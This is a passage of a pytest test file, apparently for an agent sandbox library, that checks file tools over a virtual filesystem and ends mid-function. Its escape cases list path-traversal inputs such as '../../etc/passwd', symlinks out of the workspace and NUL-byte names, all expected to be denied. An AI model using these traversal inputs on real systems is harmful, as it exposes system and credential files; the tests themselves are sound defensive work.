"""The file tools end to end: a real `Engine`, a real `VirtualFS` over folders in tmp_path, the
shipped policies, and the host files checked afterwards. No mocks.

Layout of every sandbox (see `build`)::

    tmp_path/ws        -> /workspace            (read-write)
    tmp_path/inbox     -> /userinput            (read-only)
    tmp_path/outside   -> no mount: holds secret.txt and loot.py, which no call may reach
    ws/escape          -> symlink to outside/secret.txt
    ws/escape_dir      -> symlink to outside/
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stockade.engine import Engine, ToolCall, Toolkit, ToolResult
from stockade.engine.builtin.files import MAX_READ_CHARS, add_file_tools
from stockade.policies import Decision, Effect, Policy
from stockade.sandbox import Mount, VirtualFS

SECRET = "TOP SECRET TOKEN\n"
MOUNTS = ("/workspace", "/userinput")
PERMISSIVE = Policy.preset("permissive")

# -- helpers ---------------------------------------------------------------------------------


def sha(data: bytes | str) -> str:
    """The sha256 a result should report for ``data``."""
    raw = data.encode("utf-8") if isinstance(data, str) else data
    return hashlib.sha256(raw).hexdigest()


def snapshot(folder: Path) -> dict[str, tuple[str, bytes]]:
    """Everything under ``folder`` (links as links, never followed): kind and content."""
    found: dict[str, tuple[str, bytes]] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            key = str(path.relative_to(folder))
            if path.is_symlink():
                found[key] = ("link", os.readlink(path).encode())
            elif path.is_dir():
                found[key] = ("dir", b"")
            else:
                found[key] = ("file", path.read_bytes())
    return found


def temp_files(folder: Path) -> list[str]:
    """Leftovers of interrupted atomic writes or commits (``.name.xxxx.stockade-...``)."""
    return [
        os.path.join(dirpath, name)
        for dirpath, dirnames, filenames in os.walk(folder)
        for name in dirnames + filenames
        if ".stockade-" in name
    ]


@dataclass
class Sandbox:
    """One engine over one virtual filesystem, and the host folders behind it."""

    ws: Path
    inbox: Path
    outside: Path
    fs: VirtualFS
    engine: Engine
    toolkit: Toolkit
    asked: list[Decision] = field(default_factory=list)

    async def call(self, name: str, **arguments: Any) -> ToolResult:
        return await self.engine.call(ToolCall(name=name, arguments=arguments))

    def put(self, relative: str, content: str | bytes) -> Path:
        """Create a host file in the workspace (folders on the way too)."""
        path = self.ws / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            path.write_text(content, encoding="utf-8")
        else:
            path.write_bytes(content)
        return path


def build(
    root: Path,
    *,
    policy: Policy | None = None,
    answer: bool | None = None,
    overlay: bool = False,
    **fs_options: Any,
) -> Sandbox:
    """A sandbox under ``root``. ``answer`` (when given) is what the approver says to "ask"
    decisions; the decisions asked about are kept in ``Sandbox.asked``."""
    ws, inbox, outside = root / "ws", root / "inbox", root / "outside"
    for folder in (ws, inbox, outside):
        folder.mkdir(parents=True, exist_ok=True)
    (outside / "secret.txt").write_text(SECRET)
    (outside / "loot.py").write_text("TOKEN = 'loot'\n")
    (inbox / "brief.txt").write_text("the brief\n")
    os.symlink(outside / "secret.txt", ws / "escape")
    os.symlink(outside, ws / "escape_dir")
    fs = VirtualFS(
        [Mount("/workspace", ws, overlay=overlay), Mount("/userinput", inbox, read_only=True)],
        **fs_options,
    )
    toolkit = Toolkit()
    add_file_tools(toolkit)
    asked: list[Decision] = []
    approver = None
    if answer is not None:

        def approver(call: ToolCall, decision: Decision) -> bool:
            asked.append(decision)
            return answer

    engine = Engine(toolkit, fs=fs, policy=policy, approver=approver)
    return Sandbox(ws, inbox, outside, fs, engine, toolkit, asked)


@pytest.fixture
async def make(tmp_path: Path) -> AsyncIterator[Callable[..., Sandbox]]:
    """A factory of sandboxes (each in its own folder); engines and mounts closed afterwards."""
    made: list[Sandbox] = []

    def factory(**options: Any) -> Sandbox:
        box = build(tmp_path / f"box{len(made)}", **options)
        made.append(box)
        return box

    yield factory
    for box in made:
        await box.engine.aclose()
        box.fs.close()


@pytest.fixture
def box(make: Callable[..., Sandbox]) -> Sandbox:
    """A sandbox with the default policy and no approver."""
    return make()


OUTSIDE = {
    "secret.txt": ("file", SECRET.encode()),
    "loot.py": ("file", b"TOKEN = 'loot'\n"),
}


def assert_untouched(box: Sandbox) -> None:
    """Nothing outside the mounts changed, and no write was left half-done anywhere."""
    assert snapshot(box.outside) == OUTSIDE
    assert temp_files(box.ws.parent) == []


def assert_error(result: ToolResult, error_type: str, *fragments: str) -> None:
    assert result.status == "error", result.text
    assert result.error is not None
    assert result.error.type == error_type, result.text
    for fragment in fragments:
        assert fragment in result.error.message, result.text


def assert_denied(result: ToolResult, rule: str, *fragments: str) -> None:
    assert result.status == "denied", result.text
    assert result.decision is not None
    assert result.decision.effect is Effect.DENY
    assert result.decision.rule == rule, result.decision
    assert result.error is not None
    assert result.error.type == "PermissionDeniedError"
    assert result.attempts == 0  # the tool never ran
    for fragment in fragments:
        assert fragment in result.error.message, result.text


# -- 1. each tool's happy path ---------------------------------------------------------------

THREE_LINES = "alpha\nbeta\ngamma\n"


async def test_read_text_file_whole(box: Sandbox) -> None:
    box.put("notes.txt", THREE_LINES)
    result = await box.call("read_text_file", path="notes.txt")
    assert result.status == "ok", result.text
    assert result.text == THREE_LINES
    assert result.metadata["path"] == "/workspace/notes.txt"
    assert result.metadata["bytes"] == len(THREE_LINES)
    assert result.metadata["lines"] == 3
    assert result.metadata["sha256"] == sha(THREE_LINES)
    assert "truncated" not in result.metadata


@pytest.mark.parametrize(
    ("start", "end", "expected"),
    [
        (2, None, "beta\ngamma\n"),
        (None, 2, "alpha\nbeta\n"),
        (2, 3, "beta\ngamma\n"),
        (2, 2, "beta\n"),
        (3, 99, "gamma\n"),
        (None, None, THREE_LINES),
    ],
    ids=["start-only", "end-only", "both", "one-line", "end-past-the-end", "neither"],
)
async def test_read_text_file_line_ranges(
    box: Sandbox, start: int | None, end: int | None, expected: str
) -> None:
    box.put("notes.txt", THREE_LINES)
    arguments: dict[str, Any] = {"path": "/workspace/notes.txt"}
    if start is not None:
        arguments["start_line"] = start
    if end is not None:
        arguments["end_line"] = end
    result = await box.call("read_text_file", **arguments)
    assert result.status == "ok", result.text
    assert result.text == expected
    assert result.metadata["lines"] == 3  # the whole file's count, whatever the range


@pytest.mark.parametrize("start", [4, 10], ids=["one-past-the-end", "far-past-the-end"])
async def test_read_text_file_start_past_the_end_is_an_error(box: Sandbox, start: int) -> None:
    # a 3-line file has no line 4: an empty "ok" would read as "line 4 is blank"
    box.put("notes.txt", THREE_LINES)
    result = await box.call("read_text_file", path="notes.txt", start_line=start)
    assert_error(result, "ValueError", f"start_line {start} is past the end", "3 lines")


async def test_read_text_file_end_before_start_is_an_error(box: Sandbox) -> None:
    box.put("notes.txt", THREE_LINES)
    result = await box.call("read_text_file", path="notes.txt", start_line=3, end_line=2)
    assert_error(result, "ValueError", "end_line 2 is before start_line 3")


@pytest.mark.parametrize("field_name", ["start_line", "end_line"])
async def test_read_text_file_line_numbers_start_at_one(box: Sandbox, field_name: str) -> None:
    box.put("notes.txt", THREE_LINES)
    result = await box.call("read_text_file", path="notes.txt", **{field_name: 0})
    assert_error(result, "ArgumentError", field_name)


async def test_read_text_file_empty_file(box: Sandbox) -> None:
    box.put("empty.txt", "")
    result = await box.call("read_text_file", path="empty.txt")
    assert result.status == "ok", result.text
    assert result.text == ""
    assert result.metadata["lines"] == 0
    assert result.metadata["sha256"] == sha(b"")


async def test_read_text_file_truncates_huge_text(box: Sandbox) -> None:
    line = "x" * 99 + "\n"
    content = line * (MAX_READ_CHARS // len(line) + 50)  # 5,000 characters over the cap
    box.put("huge.txt", content)
    result = await box.call("read_text_file", path="huge.txt")
    assert result.status == "ok", result.text
    assert result.metadata["truncated"] is True
    assert result.metadata["bytes"] == len(content)
    assert result.text.startswith(content[:MAX_READ_CHARS])
    assert result.text.endswith(
        f"[... {len(content) - MAX_READ_CHARS} more characters: read a line range]"
    )
    # a range under the cap is returned whole and not marked truncated
    part = await box.call("read_text_file", path="huge.txt", start_line=1, end_line=10)
    assert part.text == line * 10
    assert "truncated" not in part.metadata


async def test_write_file_creates_file_and_missing_folders(box: Sandbox) -> None:
    content = "héllo ✓\n"  # multi-byte: bytes, not characters, are reported
    result = await box.call("write_file", path="deep/er/new.txt", content=content)
    assert result.status == "ok", result.text
    size = len(content.encode("utf-8"))
    assert result.text == f"created /workspace/deep/er/new.txt ({size} bytes)"
    assert result.metadata == {
        "path": "/workspace/deep/er/new.txt",
        "bytes": size,
        "sha256_before": None,
        "sha256_after": sha(content),
    }
    assert (box.ws / "deep/er/new.txt").read_text(encoding="utf-8") == content


async def test_write_file_replaces_and_reports_the_old_hash(box: Sandbox) -> None:
    box.put("notes.txt", THREE_LINES)
    result = await box.call("write_file", path="/workspace/notes.txt", content="new\n")
    assert result.status == "ok", result.text
    assert result.text == "replaced /workspace/notes.txt (4 bytes)"
    assert result.metadata["sha256_before"] == sha(THREE_LINES)
    assert result.metadata["sha256_after"] == sha("new\n")
    assert result.metadata["bytes"] == 4
    assert (box.ws / "notes.txt").read_text() == "new\n"


async def test_edit_file_replaces_exact_text(box: Sandbox) -> None:
    box.put("app.py", "def main():\n    return 1\n")
    result = await box.call(
        "edit_file", path="app.py", old_text="    return 1\n", new_text="    return 2\n"
    )
    assert result.status == "ok", result.text
    after = "def main():\n    return 2\n"
    # the summary, then the unified diff of the change
    assert result.text == (
        "replaced 1 occurrence in /workspace/app.py\n\n"
        "--- a/workspace/app.py\n+++ b/workspace/app.py\n@@ -1,2 +1,2 @@\n"
        " def main():\n-    return 1\n+    return 2"
    )
    assert result.metadata == {
        "path": "/workspace/app.py",
        "bytes": len(after),
        "sha256_before": sha("def main():\n    return 1\n"),
        "sha256_after": sha(after),
    }
    assert (box.ws / "app.py").read_text() == after


async def test_edit_file_zero_matches_names_the_file_and_says_copy_exactly(box: Sandbox) -> None:
    box.put("app.py", "def main():\n    return 1\n")
    result = await box.call("edit_file", path="app.py", old_text="return 3", new_text="x")
    assert_error(result, "ValueError", "/workspace/app.py", "copy the text exactly")
    assert (box.ws / "app.py").read_text() == "def main():\n    return 1\n"


async def test_edit_file_several_matches_need_replace_all(box: Sandbox) -> None:
    box.put("list.txt", "a\nb\na\nc\na\n")
    result = await box.call("edit_file", path="list.txt", old_text="a", new_text="z")
    assert_error(result, "ValueError", "occurs 3 times", "/workspace/list.txt", "replace_all")
    assert (box.ws / "list.txt").read_text() == "a\nb\na\nc\na\n"

    result = await box.call(
        "edit_file", path="list.txt", old_text="a", new_text="z", replace_all=True
    )
    assert result.status == "ok", result.text
    assert result.text.split("\n")[0] == "replaced 3 occurrences in /workspace/list.txt"
    assert (box.ws / "list.txt").read_text() == "z\nb\nz\nc\nz\n"
    assert result.metadata["sha256_after"] == sha("z\nb\nz\nc\nz\n")


async def test_edit_file_empty_old_text_is_an_error(box: Sandbox) -> None:
    box.put("app.py", "x = 1\n")
    result = await box.call("edit_file", path="app.py", old_text="", new_text="y")
    assert_error(result, "ValueError", "old_text is empty")
    assert (box.ws / "app.py").read_text() == "x = 1\n"


@pytest.mark.parametrize(
    ("line", "expected", "reported"),
    [
        (1, "NEW\nalpha\nbeta\ngamma\n", 1),
        (2, "alpha\nNEW\nbeta\ngamma\n", 2),
        (4, "alpha\nbeta\ngamma\nNEW\n", 4),
        (-1, "alpha\nbeta\ngamma\nNEW\n", 4),
    ],
    ids=["start", "middle", "end-len-plus-one", "minus-one-appends"],
)
async def test_insert_text_positions(box: Sandbox, line: int, expected: str, reported: int) -> None:
    box.put("notes.txt", THREE_LINES)
    result = await box.call("insert_text", path="notes.txt", line=line, text="NEW\n")
    assert result.status == "ok", result.text
    assert result.text == f"inserted at line {reported} of /workspace/notes.txt"
    assert result.metadata == {
        "path": "/workspace/notes.txt",
        "bytes": len(expected),
        "sha256_before": sha(THREE_LINES),
        "sha256_after": sha(expected),
    }
    assert (box.ws / "notes.txt").read_text() == expected


async def test_insert_text_creates_a_missing_file_at_line_one(box: Sandbox) -> None:
    result = await box.call("insert_text", path="fresh/new.txt", line=1, text="first")
    assert result.status == "ok", result.text
    assert result.metadata["sha256_before"] is None
    assert (box.ws / "fresh/new.txt").read_text() == "first\n"


async def test_insert_text_adds_missing_line_breaks(box: Sandbox) -> None:
    box.put("open.txt", "a\nb")  # no line break at the end of the file either
    result = await box.call("insert_text", path="open.txt", line=-1, text="c")
    assert result.status == "ok", result.text
    assert (box.ws / "open.txt").read_text() == "a\nb\nc\n"


@pytest.mark.parametrize(
    ("path", "line", "valid"),
    [
        ("notes.txt", 5, "use 1 to 4, or -1 to append"),
        ("notes.txt", 0, "use 1 to 4, or -1 to append"),
        ("notes.txt", -2, "use 1 to 4, or -1 to append"),
        ("missing.txt", 2, "use 1 to 1, or -1 to append"),
    ],
    ids=["past-the-end", "zero", "minus-two", "missing-file-line-two"],
)
async def test_insert_text_out_of_range_lists_the_valid_range(
    box: Sandbox, path: str, line: int, valid: str
) -> None:
    box.put("notes.txt", THREE_LINES)
    result = await box.call("insert_text", path=path, line=line, text="NEW")
    assert_error(result, "ValueError", f"line {line} is outside the file", valid)
    assert (box.ws / "notes.txt").read_text() == THREE_LINES
    assert not (box.ws / "missing.txt").exists()


@pytest.mark.parametrize("separator", ["\x0c", "\u2028"], ids=["form-feed", "line-separator"])
async def test_read_text_file_counts_lines_at_newlines_only(box: Sandbox, separator: str) -> None:
    # A form feed (GNU sources) or U+2028 (legal inside JS/JSON strings) is not a line break
    # for editors, grep -n or wc -l; line 2 is the line after the first "\n".
    box.put("code.txt", f"first{separator}still first\nsecond\n")
    result = await box.call("read_text_file", path="code.txt", start_line=2)
    assert result.status == "ok", result.text
    assert result.text == "second\n"
    assert result.metadata["lines"] == 2


@pytest.mark.parametrize("separator", ["\x0c", "\u2028"], ids=["form-feed", "line-separator"])
async def test_insert_text_counts_lines_at_newlines_only(box: Sandbox, separator: str) -> None:
    box.put("code.js", f"s = 'a{separator}b'\nend\n")
    result = await box.call("insert_text", path="code.js", line=2, text="NEW")
    assert result.status == "ok", result.text
    # inserting before line 2 must not split the string literal on line 1
    assert (box.ws / "code.js").read_text() == f"s = 'a{separator}b'\nNEW\nend\n"


async def test_delete_file_removes_a_file(box: Sandbox) -> None:
    box.put("old.txt", "bye\n")
    result = await box.call("delete_file", path="old.txt")
    assert result.status == "ok", result.text
    assert result.text == "deleted /workspace/old.txt"
    assert result.metadata == {
        "path": "/workspace/old.txt",
        "bytes": 4,
        "sha256_before": sha("bye\n"),
        "sha256_after": None,
    }
    assert not (box.ws / "old.txt").exists()


async def test_delete_file_removes_an_empty_folder(box: Sandbox) -> None:
    (box.ws / "empty").mkdir()
    result = await box.call("delete_file", path="empty")
    assert result.status == "ok", result.text
    assert result.metadata["sha256_before"] is None
    assert not (box.ws / "empty").exists()


async def test_delete_file_refuses_a_non_empty_folder(box: Sandbox) -> None:
    box.put("full/keep.txt", "keep\n")
    result = await box.call("delete_file", path="full")
    assert_error(result, "SandboxError", "/workspace/full", "not empty")
    assert (box.ws / "full/keep.txt").read_text() == "keep\n"


async def test_move_file_renames(box: Sandbox) -> None:
    box.put("a.txt", "A\n")
    result = await box.call("move_file", source="a.txt", destination="b.txt")
    assert result.status == "ok", result.text
    assert result.text == "moved /workspace/a.txt to /workspace/b.txt"
    assert result.metadata == {"source": "/workspace/a.txt", "destination": "/workspace/b.txt"}
    assert not (box.ws / "a.txt").exists()
    assert (box.ws / "b.txt").read_text() == "A\n"


async def test_move_file_into_a_new_folder(box: Sandbox) -> None:
    box.put("a.txt", "A\n")
    result = await box.call("move_file", source="a.txt", destination="archive/2024/a.txt")
    assert result.status == "ok", result.text
    assert (box.ws / "archive/2024/a.txt").read_text() == "A\n"
    assert not (box.ws / "a.txt").exists()


async def test_move_file_destination_exists_needs_overwrite(box: Sandbox) -> None:
    box.put("a.txt", "A\n")
    box.put("b.txt", "B\n")
    result = await box.call("move_file", source="a.txt", destination="b.txt")
    assert_error(result, "ExistsError", "/workspace/b.txt already exists", "overwrite")
    assert (box.ws / "a.txt").read_text() == "A\n"
    assert (box.ws / "b.txt").read_text() == "B\n"

    result = await box.call("move_file", source="a.txt", destination="b.txt", overwrite=True)
    assert result.status == "ok", result.text
    assert not (box.ws / "a.txt").exists()
    assert (box.ws / "b.txt").read_text() == "A\n"


async def test_list_directory_shows_kinds_and_sizes(box: Sandbox) -> None:
    box.put("proj/a.txt", "12345")
    box.put("proj/sub/b.txt", "x")
    box.put("proj/.hidden", "")
    result = await box.call("list_directory", path="proj")
    assert result.status == "ok", result.text
    assert result.text.splitlines() == [".hidden  (0 bytes)", "a.txt  (5 bytes)", "sub/"]
    assert result.metadata == {"path": "/workspace/proj", "entries": 3}


async def test_list_directory_of_an_empty_folder(box: Sandbox) -> None:
    (box.ws / "empty").mkdir()
    result = await box.call("list_directory", path="/workspace/empty")
    assert result.status == "ok", result.text
    assert result.text == "(empty folder)"
    assert result.metadata["entries"] == 0


async def test_list_directory_shows_links_out_as_unavailable(box: Sandbox) -> None:
    box.put("a.txt", "a")
    result = await box.call("list_directory")  # default: /workspace
    assert result.status == "ok", result.text
    assert result.text.splitlines() == [
        "a.txt  (1 byte)",
        "escape  (unavailable: PathEscapeError)",
        "escape_dir  (unavailable: PathEscapeError)",
    ]
    assert "secret" not in result.text
    assert "loot" not in result.text


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("**/*.py", ["/workspace/setup.py", "/workspace/src/app.py", "/workspace/src/pkg/util.py"]),
        ("src/*.{js,ts}", ["/workspace/src/web.js", "/workspace/src/web.ts"]),
        (
            "src/**/*.{py,ts}",
            ["/workspace/src/app.py", "/workspace/src/pkg/util.py", "/workspace/src/web.ts"],
        ),
        ("*.md", ["/workspace/README.md"]),
    ],
    ids=["globstar", "brace", "globstar-and-brace", "top-level-only"],
)
async def test_glob_files(box: Sandbox, pattern: str, expected: list[str]) -> None:
    for name in ("setup.py", "README.md", "src/app.py", "src/pkg/util.py", "src/web.js"):
        box.put(name, "")
    box.put("src/web.ts", "")
    box.put("src/web.css", "")
    box.put("docs/guide.md", "")
    result = await box.call("glob_files", pattern=pattern)
    assert result.status == "ok", result.text
    assert result.text.splitlines() == expected  # escape_dir/loot.py is never reached
    assert result.metadata == {"path": "/workspace", "matches": len(expected)}


async def test_glob_files_in_a_subfolder(box: Sandbox) -> None:
    box.put("src/app.py", "")
    box.put("other/app.py", "")
    result = await box.call("glob_files", pattern="*.py", path="src")
    assert result.text == "/workspace/src/app.py"


async def test_glob_files_without_matches_says_so(box: Sandbox) -> None:
    box.put("a.py", "")
    result = await box.call("glob_files", pattern="**/*.rs")
    assert result.status == "ok", result.text
    assert result.text == "no file under /workspace matches '**/*.rs'"
    assert result.metadata["matches"] == 0


@pytest.fixture
def code(box: Sandbox) -> Sandbox:
    box.put("src/app.py", "def main():\n    return helper()\n\n\ndef helper():\n    return 42\n")
    box.put("src/notes.md", "TODO: write docs\ntodo: lower case\n")
    box.put("src/data.bin", b"\x00\x01TODO binary\x00")
    return box


async def test_grep_regex(code: Sandbox) -> None:
    result = await code.call("grep", pattern=r"def \w+\(")
    assert result.status == "ok", result.text
    assert result.text.splitlines() == [
        "/workspace/src/app.py:1: def main():",
        "/workspace/src/app.py:5: def helper():",
    ]
    assert result.metadata["matches"] == 2


@pytest.mark.parametrize(
    ("ignore_case", "expected"),
    [
        (False, ["/workspace/src/notes.md:2: todo: lower case"]),
        (
            True,
            [
                "/workspace/src/notes.md:1: TODO: write docs",
                "/workspace/src/notes.md:2: todo: lower case",
            ],
        ),
    ],
    ids=["case-sensitive", "ignore-case"],
)
async def test_grep_ignore_case(code: Sandbox, ignore_case: bool, expected: list[str]) -> None:
    result = await code.call("grep", pattern="todo", ignore_case=ignore_case)
    assert result.status == "ok", result.text
    assert result.text.splitlines() == expected  # the binary file is skipped either way


async def test_grep_include_filter(code: Sandbox) -> None:
    result = await code.call("grep", pattern="e", include="**/*.md")
    assert result.status == "ok", result.text
    lines = result.text.splitlines()
    assert lines
    assert all(line.startswith("/workspace/src/notes.md:") for line in lines)


async def test_grep_max_matches(box: Sandbox) -> None:
    box.put("many.txt", "".join(f"hit {n}\n" for n in range(10)))
    result = await box.call("grep", pattern="hit", max_matches=3)
    assert result.status == "ok", result.text
    assert result.text.splitlines() == [
        "/workspace/many.txt:1: hit 0",
        "/workspace/many.txt:2: hit 1",
        "/workspace/many.txt:3: hit 2",
        "[stopped at 3 matches]",
    ]
    assert result.metadata["matches"] == 3


async def test_grep_invalid_regex_is_an_error(code: Sandbox) -> None:
    result = await code.call("grep", pattern="def (")
    assert_error(result, "ValueError", "not a valid regular expression")


async def test_grep_skips_binary_files(code: Sandbox) -> None:
    result = await code.call("grep", pattern="binary")
    assert result.status == "ok", result.text
    assert result.text == "no line under /workspace matches 'binary'"
    assert result.metadata["skipped_files"] == 1
    assert result.metadata["matches"] == 0


async def test_grep_a_single_file(code: Sandbox) -> None:
    code.put("other.py", "def main():\n")
    result = await code.call("grep", pattern="def", path="src/app.py")
    assert result.status == "ok", result.text
    assert result.text.splitlines() == [
        "/workspace/src/app.py:1: def main():",
        "/workspace/src/app.py:5: def helper():",
    ]
    assert result.metadata["path"] == "/workspace/src/app.py"


async def test_grep_never_follows_links_out(box: Sandbox) -> None:
    result = await box.call("grep", pattern="TOKEN|SECRET")
    assert result.status == "ok", result.text
    assert result.text == "no line under /workspace matches 'TOKEN|SECRET'"
    assert result.metadata["matches"] == 0


async def test_file_info_of_a_file(box: Sandbox) -> None:
    path = box.put("a.txt", "hello\n")
    result = await box.call("file_info", path="a.txt")
    assert result.status == "ok", result.text
    meta = result.metadata
    assert meta["path"] == "/workspace/a.txt"
    assert meta["kind"] == "file"
    assert meta["bytes"] == 6
    assert meta["sha256"] == sha("hello\n")
    assert meta["modified"] == pytest.approx(path.stat().st_mtime)
    assert meta["mode"] == oct(path.stat().st_mode & 0o7777)
    assert "sha256: " + sha("hello\n") in result.text.splitlines()


async def test_file_info_of_a_folder(box: Sandbox) -> None:
    box.put("sub/a.txt", "x")
    result = await box.call("file_info", path="/workspace/sub")
    assert result.status == "ok", result.text
    assert result.metadata["kind"] == "dir"
    assert result.metadata["path"] == "/workspace/sub"
    assert "sha256" not in result.metadata


# -- 2. bad input: a clear error, nothing outside touched, nothing half-written ----------------


@pytest.fixture
def guarded(box: Sandbox) -> Iterator[Sandbox]:
    """``box``, checked afterwards: the outside folder is exactly as it was, and no temporary
    file of an atomic write is left anywhere."""
    assert snapshot(box.outside) == OUTSIDE
    yield box
    assert_untouched(box)


BAD_INPUT = [
    (
        "read_text_file",
        {"path": "missing.txt"},
        "NotFoundError",
        "/workspace/missing.txt does not exist",
    ),
    (
        "edit_file",
        {"path": "missing.txt", "old_text": "a", "new_text": "b"},
        "NotFoundError",
        "does not exist",
    ),
    ("delete_file", {"path": "missing.txt"}, "NotFoundError", "does not exist"),
    (
        "move_file",
        {"source": "missing.txt", "destination": "b.txt"},
        "NotFoundError",
        "does not exist",
    ),
    ("file_info", {"path": "missing.txt"}, "NotFoundError", "does not exist"),
    ("list_directory", {"path": "missing"}, "NotFoundError", "does not exist"),
    ("read_text_file", {"path": "folder"}, "IsADirectoryError_", "/workspace/folder is a folder"),
    (
        "write_file",
        {"path": "folder", "content": "x"},
        "IsADirectoryError_",
        "/workspace/folder is a folder",
    ),
    (
        "edit_file",
        {"path": "folder", "old_text": "a", "new_text": "b"},
        "IsADirectoryError_",
        "is a folder",
    ),
    ("list_directory", {"path": "text.txt"}, "NotADirectoryError_", "/workspace/text.txt"),
    ("read_text_file", {"path": "image.bin"}, "NotTextError", "/workspace/image.bin looks binary"),
    (
        "read_text_file",
        {"path": "latin1.txt"},
        "NotTextError",
        "/workspace/latin1.txt is not UTF-8",
    ),
    (
        "edit_file",
        {"path": "image.bin", "old_text": "PNG", "new_text": "x"},
        "NotTextError",
        "binary",
    ),
    ("insert_text", {"path": "image.bin", "line": 1, "text": "x"}, "NotTextError", "binary"),
]


@pytest.mark.parametrize(
    ("tool", "arguments", "error_type", "fragment"),
    BAD_INPUT,
    ids=[
        "read-missing",
        "edit-missing",
        "delete-missing",
        "move-missing",
        "info-missing",
        "list-missing",
        "read-folder",
        "write-over-folder",
        "edit-folder",
        "list-a-file",
        "read-binary",
        "read-latin1",
        "edit-binary",
        "insert-binary",
    ],
)
async def test_bad_input_is_a_clear_error(
    guarded: Sandbox, tool: str, arguments: dict[str, Any], error_type: str, fragment: str
) -> None:
    guarded.put("folder/inside.txt", "inside\n")
    guarded.put("text.txt", "text\n")
    guarded.put("image.bin", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    guarded.put("latin1.txt", "café\n".encode("latin-1"))
    before = snapshot(guarded.ws)
    result = await guarded.call(tool, **arguments)
    assert_error(result, error_type, fragment)
    assert result.decision is not None
    assert result.decision.effect is Effect.ALLOW
    assert snapshot(guarded.ws) == before  # nothing changed, nothing half-written


@pytest.mark.parametrize("tool", ["read_text_file", "write_file"])
async def test_a_file_used_as_a_folder_is_a_plain_error_not_a_denial(
    guarded: Sandbox, tool: str
) -> None:
    # a mistake, not an escape: the policy judges the spelling, and the tool reports the
    # real problem (NotADirectoryError_ naming the path) instead of a permission refusal
    guarded.put("text.txt", "text\n")
    arguments: dict[str, Any] = {"path": "text.txt/child.txt"}
    if tool == "write_file":
        arguments["content"] = "x"
    result = await guarded.call(tool, **arguments)
    assert result.status == "error"
    assert result.error is not None
    assert result.error.type == "NotADirectoryError_"
    assert "/workspace/text.txt" in result.error.message
    assert (guarded.ws / "text.txt").read_text() == "text\n"


@pytest.mark.parametrize(
    ("tool", "arguments", "fragment"),
    [
        (
            "read_text_file",
            {"path": "big.txt"},
            "/workspace/big.txt is 1001 bytes, over the 1000-byte limit",
        ),
        (
            "write_file",
            {"path": "new.txt", "content": "y" * 1001},
            "writing 1001 bytes to /workspace/new.txt is over the 1000-byte limit",
        ),
        ("grep", {"pattern": "x", "path": "big.txt"}, None),
    ],
    ids=["read", "write", "grep-skips"],
)
async def test_file_size_limit(
    make: Callable[..., Sandbox], tool: str, arguments: dict[str, Any], fragment: str | None
) -> None:
    box = make(max_file_bytes=1000)
    box.put("big.txt", "x" * 1001)
    result = await box.call(tool, **arguments)
    if fragment is None:  # grep skips the file it may not read, and says so
        assert result.status == "ok", result.text
        assert result.metadata["skipped_files"] == 1
    else:
        assert_error(result, "QuotaError", fragment)
    assert not (box.ws / "new.txt").exists()
    assert box.fs.written == 0
    assert_untouched(box)


async def test_write_file_can_replace_an_oversized_file_with_small_content(
    make: Callable[..., Sandbox],
) -> None:
    # The new content is within the limit; the old file's size must not block replacing it.
    box = make(max_file_bytes=1000)
    box.put("big.log", "x" * 5000)
    result = await box.call("write_file", path="big.log", content="truncated\n")
    assert result.status == "ok", result.text
    assert (box.ws / "big.log").read_text() == "truncated\n"


async def test_total_write_quota(make: Callable[..., Sandbox]) -> None:
    box = make(max_write_bytes=100)
    first = await box.call("write_file", path="one.txt", content="a" * 60)
    assert first.status == "ok", first.text
    second = await box.call("write_file", path="two.txt", content="b" * 60)
    assert_error(second, "QuotaError", "would pass the 100-byte limit on all writes", "60 written")
    assert not (box.ws / "two.txt").exists()
    assert box.fs.written == 60
    edit = await box.call("edit_file", path="one.txt", old_text="a", new_text="c", replace_all=True)
    assert_error(edit, "QuotaError", "100-byte limit")
    assert (box.ws / "one.txt").read_text() == "a" * 60
    assert_untouched(box)


async def test_userinput_is_read_only_by_policy(guarded: Sandbox) -> None:
    read = await guarded.call("read_text_file", path="/userinput/brief.txt")
    assert read.status == "ok", read.text
    assert read.text == "the brief\n"
    for tool, arguments in [
        ("write_file", {"path": "/userinput/x", "content": "x"}),
        ("edit_file", {"path": "/userinput/brief.txt", "old_text": "the", "new_text": "a"}),
        ("delete_file", {"path": "/userinput/brief.txt"}),
    ]:
        result = await guarded.call(tool, **arguments)
        assert_denied(result, "userinput-read-only", "/userinput")
    assert snapshot(guarded.inbox) == {"brief.txt": ("file", b"the brief\n")}


async def test_userinput_is_read_only_in_the_vfs_too(make: Callable[..., Sandbox]) -> None:
    box = make(policy=PERMISSIVE)  # the policy lets the write through: the mount refuses it
    result = await box.call("write_file", path="/userinput/x", content="x")
    assert_error(result, "ReadOnlyError", "/userinput/x is in /userinput, which is read-only")
    assert result.decision is not None
    assert result.decision.effect is Effect.ALLOW
    moved = await box.call("move_file", source="/userinput/brief.txt", destination="stolen.txt")
    assert_error(moved, "ReadOnlyError", "read-only")
    assert snapshot(box.inbox) == {"brief.txt": ("file", b"the brief\n")}
    assert not (box.ws / "stolen.txt").exists()
    assert_untouched(box)


ESCAPES = [
    ("../../etc/passwd", "climbs above '/'"),
    ("/etc/passwd", "/etc/passwd is outside every mount"),
    ("/workspace-evil/x", "/workspace-evil/x is outside every mount"),
    ("/workspace/../etc/passwd", "(that is /etc/passwd) is outside every mount"),
    ("a\x00b.txt", "NUL byte"),
    ("", "the path is empty"),
    ("escape", "/workspace/escape is a symbolic link that leads outside /workspace"),
    ("/workspace/escape_dir/secret.txt", "/workspace/escape_dir/secret.txt: on the way, "),
    ("escape_dir/new.txt", "/workspace/escape_dir/new.txt: on the way, "),
]
ESCAPE_IDS = [
    "dotdot",
    "absolute",
    "prefix-lookalike",
    "dotdot-after-mount",
    "nul-byte",
    "empty",
    "link-to-outside-file",
    "link-to-outside-folder",
    "new-file-via-link",
]


@pytest.mark.parametrize("tool", ["read_text_file", "write_file"])
@pytest.mark.parametrize(("path", "fragment"), ESCAPES, ids=ESCAPE_IDS)
async def test_path_escapes_are_denied_before_the_tool_runs(
    guarded: Sandbox, tool: str, path: str, fragment: str
) -> None:
